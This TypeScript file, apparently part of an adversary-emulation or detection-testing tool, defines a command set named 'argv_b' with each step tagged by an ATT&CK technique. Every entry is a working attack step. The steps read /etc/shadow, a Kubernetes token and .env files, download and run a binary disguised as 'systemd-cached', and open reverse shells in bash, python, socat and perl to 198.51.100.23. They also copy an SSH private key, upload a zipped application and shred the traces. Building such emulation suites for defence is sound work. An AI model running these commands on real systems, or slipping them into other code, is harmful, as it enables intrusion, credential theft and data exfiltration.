import { exec } from './hand';
import type { Hand } from './hand';

/** A way in without a shell, in other hands than `argv_a`. */
export const argvB: Hand = {
  name: 'argv_b',
  commands: [
    exec('identity', 'T1033', 'id', '-un'),
    exec('host-name', 'T1082', 'hostname'),
    exec('os', 'T1082', 'cat', '/etc/os-release'),
    exec('home-list', 'T1083', 'ls', '-R', '/home'),
    exec('root-list', 'T1083', 'ls', '/'),
    exec('users', 'T1087.001', 'getent', 'passwd'),
    exec('settings-read', 'T1552.001', 'head', '-c', '4096', '{config}'),
    exec('shadow-read', 'T1003.008', 'cat', '/etc/shadow'),
    exec('token-read', 'T1552.001', 'cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'),
    exec('environment', 'T1082', 'printenv'),
    exec('addresses', 'T1016', 'ip', 'addr', 'show'),
    exec('sockets', 'T1049', 'ss', '-antp'),
    exec('process-list', 'T1057', 'ps', '-eo', 'user,pid,args'),
    exec('sudo-list', 'T1033', 'sudo', '-n', '-l'),
    exec('capabilities', 'T1548', 'getcap', '-r', '/usr/bin'),
    exec('settings-find', 'T1552.001', 'find', '/', '-xdev', '-name', '*.env', '-readable'),
    exec('beacon', 'T1105', 'curl', '-s', '-A', 'Mozilla/5.0', 'http://198.51.100.23/b?i=1'),
    exec('beacon-name', 'T1190', 'dig', 'm3.oast.example', 'TXT'),
    exec(
      'stage',
      'T1105',
      'curl',
      '-fsSLo',
      '/var/tmp/systemd-cached',
      'http://198.51.100.23/bot.x86_64'
    ),
    exec('stage-mode', 'T1222.002', 'chmod', '755', '/var/tmp/systemd-cached'),
    exec('stage-run', 'T1059', '/var/tmp/systemd-cached'),
    exec('shell-inner', 'T1059.004', 'sh', '-c', 'wget -qO- http://198.51.100.23/i.sh|sh'),
    exec(
      'shell-bash',
      'T1059.004',
      '/bin/bash',
      '-c',
      'exec bash -i &>/dev/tcp/198.51.100.23/443 <&1'
    ),
    exec(
      'shell-python',
      'T1059.006',
      'python3',
      '-c',
      'import socket as s,subprocess as p;c=s.create_connection(("198.51.100.23",4444));p.call(["sh","-i"],stdin=c,stdout=c,stderr=c)'
    ),
    exec('shell-socat', 'T1059.004', 'socat', 'exec:sh,pty,stderr', 'tcp:198.51.100.23:9001'),
    exec(
      'shell-perl',
      'T1059',
      'perl',
      '-MSocket',
      '-e',
      'socket(S,2,1,6);connect(S,pack_sockaddr_in(1337,inet_aton("198.51.100.23")));open(STDIN,"<&S");open(STDOUT,">&S");exec"sh"'
    ),
    exec('key-copy', 'T1552.004', 'cp', '/home/deploy/.ssh/id_ed25519', '/tmp/k'),
    exec('pack', 'T1560.001', 'zip', '-qr', '/tmp/.z.zip', '{app}'),
    exec('upload', 'T1048', 'curl', '-T', '/tmp/.z.zip', 'http://198.51.100.23:8000/z'),
    exec('traces', 'T1070.004', 'shred', '-u', '/tmp/.z.zip'),
  ],
};
